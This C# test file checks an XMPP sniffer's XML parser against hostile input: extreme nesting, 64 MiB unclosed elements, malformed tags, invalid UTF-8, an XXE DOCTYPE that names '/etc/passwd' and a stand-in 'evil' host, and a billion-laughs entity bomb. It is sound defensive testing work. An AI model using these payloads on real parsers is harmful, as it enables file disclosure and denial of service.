using System.Text;
using XmppSniff.Analysis.Protocols;
using XmppSniff.Analysis.Protocols.Xmpp;
using XmppSniff.Core;

namespace XmppSniff.Analysis.Tests.Xmpp;

/// <summary>
/// XML made to hurt a parser: nothing is expanded, held bytes stay within the element bound, the
/// depth bound holds, and the stanzas after the damage are decoded. Each bound hit is counted.
/// </summary>
public class HostileXmlTests
{
    private const FlowSide C = FlowSide.Client;

    private static byte[] Utf8(string s) => Encoding.UTF8.GetBytes(s);

    private const string After = "<iq id='after' type='get'><ping xmlns='urn:xmpp:ping'/></iq><message id='m2'><body>still here</body></message>";

    private static void AssertRecovered(List<XmppElement> elements)
    {
        Assert.Contains(elements, e => e.Id == "after" && e.Summary.Contains("ping") && e.Error is null);
        Assert.Contains(elements, e => e.Id == "m2" && e.Body == "still here");
    }

    [Fact]
    public void TenThousandNestingLevelsAreSkippedCountedAndTheStreamGoesOn()
    {
        string deep = string.Concat(Enumerable.Repeat("<x>", 10_000)) + string.Concat(Enumerable.Repeat("</x>", 10_000));
        byte[] bytes = Utf8(XmppHarness.ClientHeader + "<message id='deep'>" + deep + "</message>" + After);
        var counters = new ElementLimitCounters();
        var options = new XmppOptions { Counters = counters };
        List<XmppElement> elements = XmppHarness.Whole(bytes, options);
        AssertRecovered(elements);
        XmppElement note = Assert.Single(elements, e => e.Kind == "note" && e.Error == "nested too deep");
        Assert.Contains("<message>", note.Summary);
        Assert.Equal(1, counters.ElementsTooDeep);
        Assert.DoesNotContain(elements, e => e.Id == "deep" && e.Kind == "stanza");

        // In 1,000-byte pieces the result is the same, and the analyzer never holds more than the element bound.
        var harness = new XmppHarness(options with { Counters = null });
        for (int at = 0; at < bytes.Length; at += 1000) harness.Feed(C, bytes.AsSpan(at, Math.Min(1000, bytes.Length - at)));
        Assert.Equal(elements, harness.End().Elements);
        Assert.True(harness.MaxHeld <= options.MaxElementBytes);
    }

    [Fact]
    public void TenThousandNestedStreamManagementAcksEndInAFewNotes()
    {
        // <a> is also a top-level name (XEP-0198's ack), so the skip resumes at each one: a few notes, then recovery.
        string deep = string.Concat(Enumerable.Repeat("<a>", 10_000)) + string.Concat(Enumerable.Repeat("</a>", 10_000));
        byte[] bytes = Utf8(XmppHarness.ClientHeader + deep + After);
        List<XmppElement> elements = XmppHarness.Whole(bytes);
        AssertRecovered(elements);
        Assert.InRange(elements.Count, 3, 2 * (10_000 / 256) + 10);
        Assert.Equal(elements, XmppHarness.Split(bytes, Enumerable.Range(1, bytes.Length / 777).Select(i => i * 777)));
    }

    [Fact]
    public void ARaisedDepthBoundLetsDeepButLegalElementsThrough()
    {
        string deep = string.Concat(Enumerable.Repeat("<a>", 300)) + "x" + string.Concat(Enumerable.Repeat("</a>", 300));
        byte[] bytes = Utf8(XmppHarness.ClientHeader + "<message id='deep'>" + deep + "</message>" + After);
        var counters = new ElementLimitCounters();
        List<XmppElement> elements = XmppHarness.Whole(bytes, new XmppOptions { MaxDepth = 400, Counters = counters });
        XmppElement deepOne = Assert.Single(elements, e => e.Id == "deep");
        Assert.Null(deepOne.Error);
        Assert.Equal(0, counters.ElementsTooDeep);
        AssertRecovered(elements);
    }

    [Fact]
    public void AnUnclosed64MiBElementIsHeldWithinTheBoundAndReportedOnce()
    {
        var counters = new ElementLimitCounters();
        var options = new XmppOptions { Counters = counters };
        var harness = new XmppHarness(options).Feed(C, XmppHarness.ClientHeader).Feed(C, "<message id='flood'><body>");
        byte[] chunk = new byte[64 * 1024];
        chunk.AsSpan().Fill((byte)'z');
        for (int i = 0; i < 1024; i++) harness.Feed(C, chunk); // 64 MiB, never closed
        harness.End();
        Assert.True(harness.MaxHeld <= options.MaxElementBytes + chunk.Length, $"held {harness.MaxHeld}");
        XmppElement flood = Assert.Single(harness.Elements, e => e.Id == "flood");
        Assert.True(flood.Truncated);
        Assert.True(flood.Size > 64L << 20);
        Assert.Equal("<message id='flood'>", flood.Xml);
        Assert.Equal(1, counters.ElementsTruncated);
    }

    [Fact]
    public void AnUnclosed64MiBStartTagIsSkippedAndTheStanzasAfterItAreDecoded()
    {
        var options = new XmppOptions();
        var harness = new XmppHarness(options).Feed(C, XmppHarness.ClientHeader).Feed(C, "<message id='x' a='");
        byte[] chunk = new byte[64 * 1024];
        chunk.AsSpan().Fill((byte)'q');
        for (int i = 0; i < 1024; i++) harness.Feed(C, chunk);
        harness.Feed(C, After).End();
        Assert.True(harness.MaxHeld <= options.MaxElementBytes + chunk.Length, $"held {harness.MaxHeld}");
        AssertRecovered(harness.Elements);
        Assert.True(harness.Elements.Count < 10, string.Join("|", harness.Elements.Select(e => e.Summary)));
    }

    [Fact]
    public void UndefinedAndExternalEntitiesAreLeftAsTheyAre()
    {
        string stream = "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY xxe SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://evil/p'>%p;]>"
            + XmppHarness.ClientHeader[21..] + "<message id='e'><body>&xxe;&unknown;&amp;&#65;&#x42;&#xFFFFFFFF;&#0;</body></message>" + After;
        List<XmppElement> elements = XmppHarness.Whole(Utf8(stream));
        Assert.Equal("dtd", elements[0].Name);
        XmppElement e = Assert.Single(elements, x => x.Id == "e");
        Assert.StartsWith("&xxe;&unknown;&AB", e.Body);
        Assert.Equal("undefined entity (not expanded)", e.Error);
        Assert.DoesNotContain(elements, x => (x.Xml ?? "").Contains("root:"));
        AssertRecovered(elements);
    }

    public static TheoryData<string> MalformedTags() => new()
    {
        "<message id='a' id2></message>",
        "<message id=\"a></message>",
        "<message id='a'<body/></message>",
        "</>",
        "<1message/>",
        "< message/>",
        "<message/ >",
        "<message id='a' / >",
        "<message><body></message>",
        "<message></body></message>",
        "<message>&#;&#x;&;&amp</message>",
        "<<<<>>>>",
        "<message id='a'>\0\u0001</message>",
        "<stream:stream><stream:stream>",
        "<!DOCTYPE",
        "<![CDATA[ <message id='after'/> ",
        "<!-- <iq id='after'/> ",
        "<?pi <iq id='after'/>",
    };

    [Theory]
    [MemberData(nameof(MalformedTags))]
    public void MalformedTagsAreReportedAndTheStanzasAfterThemAreDecoded(string damage)
    {
        // An unterminated comment, CDATA or PI swallows what follows until its terminator: give it one.
        string closer = damage switch
        {
            "<!DOCTYPE" => ">",
            _ when damage.StartsWith("<![CDATA[") => "]]>",
            _ when damage.StartsWith("<!--") => "-->",
            _ when damage.StartsWith("<?pi") => "?>",
            _ => "",
        };
        byte[] bytes = Utf8(XmppHarness.ClientHeader + damage + closer + After);
        List<XmppElement> whole = XmppHarness.Whole(bytes);
        Assert.Contains(whole, e => e.Kind == "note" || e.Error is not null);
        AssertRecovered(whole);
        Assert.Equal(whole, XmppHarness.ByteByByte(bytes));
    }

    [Fact]
    public void InvalidUtf8IsReportedAndDoesNotStopTheStream()
    {
        byte[] bytes = [.. Utf8(XmppHarness.ClientHeader + "<message id='bad'><body>"), 0xC3, 0x28, 0xFF, 0xFE, 0xED, 0xA0, 0x80,
            .. Utf8("</body></message><presence id='p' from='"), 0xF8, 0x88, .. Utf8("'/>" + After)];
        List<XmppElement> elements = XmppHarness.Whole(bytes);
        Assert.Equal("invalid UTF-8", Assert.Single(elements, e => e.Id == "bad").Error);
        Assert.Equal("invalid UTF-8", Assert.Single(elements, e => e.Id == "p").Error);
        AssertRecovered(elements);
        Assert.Equal(elements, XmppHarness.ByteByByte(bytes));
    }

    [Fact]
    public void ABillionLaughsBeforeTheStreamHeaderCostsOnlyItsOwnBytes()
    {
        var dtd = new StringBuilder("<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (int i = 1; i < 10; i++) dtd.Append($"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{(i == 1 ? "" : i - 1)};", 10))}\">");
        dtd.Append("]>");
        byte[] bytes = Utf8(dtd + XmppHarness.ClientHeader[21..] + "<message id='lol'><body>&lol9;&lol9;</body></message>" + After);
        var harness = new XmppHarness();
        foreach (byte b in bytes) harness.Feed(C, [b]);
        List<XmppElement> elements = harness.End().Elements;
        Assert.Equal("&lol9;&lol9;", Assert.Single(elements, e => e.Id == "lol").Body);
        Assert.True(harness.MaxHeld < bytes.Length);
        Assert.True(elements.Sum(e => (long)(e.Xml ?? "").Length + e.Summary.Length + (e.Body ?? "").Length) < 4L * bytes.Length);
        AssertRecovered(elements);
    }
}
